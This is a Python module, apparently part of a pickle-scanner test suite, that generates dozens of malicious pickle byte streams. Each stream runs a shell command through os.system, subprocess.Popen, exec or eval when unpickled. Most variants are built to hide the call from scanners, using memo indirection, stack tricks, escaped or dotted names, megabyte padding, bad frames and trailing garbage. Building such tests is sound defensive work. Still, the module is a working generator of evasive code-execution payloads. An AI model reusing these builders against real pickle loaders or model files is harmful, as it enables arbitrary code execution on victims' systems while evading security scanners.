"""One and the same call, written so that a scanner loses sight of it."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable, Iterator
from typing import Final

from .assembly import Attack, Call, Name, Payload, push, stream, text

_OS: Final = b"\x80\x04\x8c\x02os\x8c\x06system\x93"
_GLOBAL: Final = b"cos\nsystem\n"
_MARSHAL_FREE_NAME: Final = b"\x8c\x08builtins\x8c\x04exec\x93"


def _argument(payload: Payload) -> bytes:
    shell = payload.shell.encode()
    return b"(X" + struct.pack("<I", len(shell)) + shell + b"t"


def _line(payload: Payload) -> bytes:
    return payload.shell.encode("raw-unicode-escape")


def _call(payload: Payload) -> bytes:
    """GLOBAL, the arguments, REDUCE: one value on the stack, the payload has run."""
    return _GLOBAL + _argument(payload) + b"R"


Build = Callable[[Payload], bytes]

NOTATIONS: Final[dict[str, Build]] = {
    "protocol 0": lambda p: _GLOBAL + b"(V" + _line(p) + b"\ntR.",
    "protocol 0 with STRING": lambda p: _GLOBAL + b"(S'" + _line(p) + b"'\ntR.",
    "protocol 0 with comments of data": lambda p: b"I1\n0L2L\n0F1.5\n0" + _GLOBAL + b"(V" + _line(p) + b"\np7\ntR.",
    "no protocol, binary": lambda p: b"cposix\nsystem\n" + _argument(p) + b"R.",
    "INST": lambda p: b"(V" + _line(p) + b"\nios\nsystem\n.",
    "OBJ": lambda p: b"(cos\nsystem\nV" + _line(p) + b"\no.",
    "NEWOBJ": lambda p: (
        b"\x80\x04" + push(Name("subprocess:Popen")) + b")\x81" + push({"x": Call("os:system", p.shell)}) + b"b."
    ),
    "NEWOBJ_EX with a call in its keywords": lambda p: (
        b"\x80\x04"
        + push(Name("collections:OrderedDict"))
        + push(())
        + push({"x": Call("os:system", p.shell)})
        + b"\x92."
    ),
    "REDUCE with a list of arguments": lambda p: (
        b"\x80\x04" + push(Name("subprocess:Popen")) + push((p.words,)) + b"R."
    ),
    "tuple by TUPLE1": lambda p: _OS + push(p.shell) + b"\x85R.",
    "BINSTRING": lambda p: _OS + b"T" + struct.pack("<I", len(p.shell)) + p.shell.encode() + b"\x85R.",
    "BINUNICODE8": lambda p: _OS + b"\x8d" + struct.pack("<Q", len(p.shell)) + p.shell.encode() + b"\x85R.",
    "python 2 name": lambda p: b"\x80\x02c__builtin__\neval\n(V" + p.code.encode() + b"\ntR.",
    "python 2 commands": lambda p: b"\x80\x02ccommands\ngetoutput\n" + _argument(p) + b"R.",
    "protocol raised in the middle": lambda p: (
        b"\x80\x02c__builtin__\ndict\n0\x80\x04" + _OS[2:] + _argument(p) + b"R."
    ),
    "PROTO twice": lambda p: b"\x80\x04\x80\x00" + _call(p) + b".",
}
MEMO: Final[dict[str, Build]] = {
    "PUT memo": lambda p: b"\x80\x02cos\nsystem\nq\x050h\x05" + _argument(p) + b"R.",
    "name through the memo": lambda p: (
        b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93" + _argument(p) + b"R."
    ),
    "name through a text memo": lambda p: b"\x80\x04Vos\np9\n0Vsystem\np8\n0g9\ng8\n\x93" + _argument(p) + b"R.",
    "memo overwritten": lambda p: (
        b"\x80\x04\x8c\x04mathq\x00\x8c\x02osq\x00\x8c\x03sinq\x010"
        + b"00\x8c\x06systemq\x010h\x00h\x01\x93"
        + _argument(p)
        + b"R."
    ),
    "memo overwritten by MEMOIZE": lambda p: (
        b"\x80\x04\x8c\x04mathq\x01\x94h\x010\x8c\x02osq\x01\x94\x8c\x06system\x93" + _argument(p) + b"R."
    ),
    "memo by long index": lambda p: b"\x80\x02cos\nsystem\nr\xff\xff\x00\x000j\xff\xff\x00\x00" + _argument(p) + b"R.",
    "arguments through the memo": lambda p: b"\x80\x04" + _argument(p) + b"\x940" + _OS[2:] + b"h\x00R.",
    "result through the memo": lambda p: (
        b"\x80\x04"
        + push(Name("os:system"))
        + b"\x940("
        + push(p.shell)
        + b"th\x00\x860h\x00("
        + push(p.shell)
        + b"tR."
    ),
    "function in a list, fetched by memo": lambda p: (
        b"\x80\x04](" + push(Name("os:system")) + b"\x94e0h\x00" + _argument(p) + b"R."
    ),
}
STACK: Final[dict[str, Build]] = {
    "DUP and POP": lambda p: _OS + b"2N0" + _argument(p) + b"R0.",
    "POP_MARK hides values": lambda p: b"\x80\x04(K\x01K\x021\x8c\x02os\x8c\x06system\x93" + _argument(p) + b"R.",
    "POP takes a mark": lambda p: b"\x80\x04N(0" + _OS[2:] + _argument(p) + b"R.",
    "result popped": lambda p: b"\x80\x04" + _call(p) + b"0N.",
    "result in a tuple that is popped": lambda p: b"\x80\x04" + _call(p) + b"\x850}.",
    "payload in a dict key": lambda p: b"\x80\x04}" + _call(p) + b"K\x01s.",
    "payload in a set": lambda p: b"\x80\x04\x8f(" + _call(p) + b"\x90.",
    "payload in a frozenset": lambda p: b"\x80\x04(" + _call(p) + b"\x91.",
    "payload in the state of an object": lambda p: (
        b"\x80\x04" + push(Name("collections:OrderedDict")) + b")R}(\x8c\x01a" + _call(p) + b"ub."
    ),
    "BUILD of an exec": lambda p: b"\x80\x04" + _MARSHAL_FREE_NAME + push((p.code,)) + b"R}b.",
    "frame shorter than its content": lambda p: b"\x80\x04\x95\x02" + b"\0" * 7 + b"N0" + _call(p) + b".",
    "behind a megabyte of data": lambda p: b"\x80\x04](" + b"\x8c\x04abcd\x94" * 150_000 + b"e" + _call(p) + b".",
    "inside a large list": lambda p: b"\x80\x04](" + b"K\x01" * 50_000 + _call(p) + b"K\x01" * 50_000 + b"e.",
    "behind a large text": lambda p: (
        b"\x80\x04X" + struct.pack("<I", 1 << 20) + b"a" * (1 << 20) + b"0" + _call(p) + b"."
    ),
    "setattr of a class": lambda p: stream(
        Call("builtins:setattr", Name("collections:Counter"), "x", Call("os:system", p.shell))
    ),
    "defaultdict factory": lambda p: stream(
        Call("collections:defaultdict", Name("os:getpid"), Call("os:system", p.shell))
    ),
    "extension registered in the stream": lambda p: (
        b"\x80\x04" + push(Call("copyreg:add_extension", "os", "system", 240)) + b"0\x82\xf0" + _argument(p) + b"R."
    ),
    "nested tuples around": lambda p: b"\x80\x04" + _call(p) + b"\x85" * 500 + b".",
    "exception raised with the payload": lambda p: stream(Call("builtins:ValueError", Call("os:system", p.shell))),
}
NAMES: Final[dict[str, Build]] = {
    "dotted name": lambda p: b"\x80\x04\x8c\x06random\x8c\x0a_os.system\x93" + _argument(p) + b"R.",
    "dotted through a wheel": lambda p: (
        b"\x80\x04" + text("joblib.disk") + text("os.system") + b"\x93" + _argument(p) + b"R."
    ),
    "dotted through a class": lambda p: (
        b"\x80\x04" + text("logging") + text("Formatter.__init__.__globals__") + b"\x930" + _call(p) + b"."
    ),
    "alias in another module": lambda p: (
        b"\x80\x04" + text("subprocess") + text("os.system") + b"\x93" + _argument(p) + b"R."
    ),
    "module of a C extension": lambda p: (
        b"\x80\x04" + text("_posixsubprocess") + text("fork_exec") + b"\x930" + _call(p) + b"."
    ),
    "escaped STRING": lambda p: b"S'\\x6f\\x73'\n0" + _OS + _argument(p) + b"R.",
    "name from escaped STRING": lambda p: b"\x80\x04S'\\x6f\\x73'\nS'sys\\x74em'\n\x93" + _argument(p) + b"R.",
    "name from escaped UNICODE": lambda p: b"\x80\x04V\\u006fs\nVsyste\\u006d\n\x93" + _argument(p) + b"R.",
    "name from a call": lambda p: (
        b"\x80\x04" + push(Call("builtins:str", "os")) + text("system") + b"\x93" + _argument(p) + b"R."
    ),
    "name from bytes decoded": lambda p: (
        b"\x80\x04" + push(Call("builtins:str", b"os", "ascii")) + text("system") + b"\x93" + _argument(p) + b"R."
    ),
}
BROKEN: Final[dict[str, Build]] = {
    "payload, then an unknown opcode": lambda p: _call(p) + b"\xff",
    "payload, then truncated": lambda p: b"\x80\x04" + _call(p) + b"X\xff\xff\xff\x00ab",
    "payload, then the end": lambda p: b"\x80\x04" + _call(p),
    "payload, then a bad memo": lambda p: b"\x80\x04" + _call(p) + b"h\xfe.",
    "payload, then an exception": lambda p: b"\x80\x04" + _call(p) + b"0" + push(Call("builtins:int", "x")) + b".",
    "payload, then a module nobody has": lambda p: b"\x80\x04" + _call(p) + b"0cno_such_module\nx\n.",
    "payload, then a text that is no text": lambda p: b"\x80\x04" + _call(p) + b"X\x02\0\0\0\xff\xff.",
    "payload, then a bad protocol": lambda p: b"\x80\x04" + _call(p) + b"\x80\x63.",
    "payload, then a bad number": lambda p: b"\x80\x04" + _call(p) + b"Ix\n.",
    "payload, then an empty stack": lambda p: b"\x80\x04" + _call(p) + b"000.",
    "payload, then REDUCE of data": lambda p: b"\x80\x04" + _call(p) + b"NNR.",
    "payload, then BUILD of data": lambda p: b"\x80\x04" + _call(p) + b"0K\x01}(\x8c\x01aK\x01ub.",
    "payload, then a persistent id": lambda p: b"\x80\x04" + _call(p) + b"Q.",
    "payload, then garbage behind STOP": lambda p: b"\x80\x04" + _call(p) + b".\x00\x01garbage",
}


def as_text(payload: Payload) -> bytes:
    """A pickle of nothing but text, whose first global has the name of one that arrays need."""
    return b"ccopy\n_reconstruct\n(NNcposix\nsystem\n(V" + _line(payload) + b"\nttR."


def attacks() -> Iterator[Attack]:
    """One file for each notation."""
    for family, builds in (
        ("opcodes", {**NOTATIONS, **MEMO, **STACK, **NAMES}),
        ("broken after the payload", BROKEN),
    ):
        for name, build in builds.items():
            yield Attack(name, family, build)
    yield Attack(
        "frame longer than the file",
        "opcodes",
        lambda p: b"\x80\x04\x95\xff" + b"\0" * 7 + _call(p) + b".",
        "pickle-python",
    )
    yield Attack(
        "stacked behind an honest one", "opcodes", lambda p: pickle.dumps([1, 2, 3]) + _call(p) + b".", "pickle-all"
    )
    yield Attack("call by copy, as text", "opcodes", as_text, suffix=".txt")
    yield Attack("EXT of the loading process", "opcodes", lambda p: b"\x80\x02\x84\x01\0\0\0.", "", expected="UNKNOWN")
    yield Attack(
        "numpy ufunc import",
        "opcodes",
        lambda p: stream(Call("numpy._core:_ufunc_reconstruct", "os", "system")),
        "",
    )
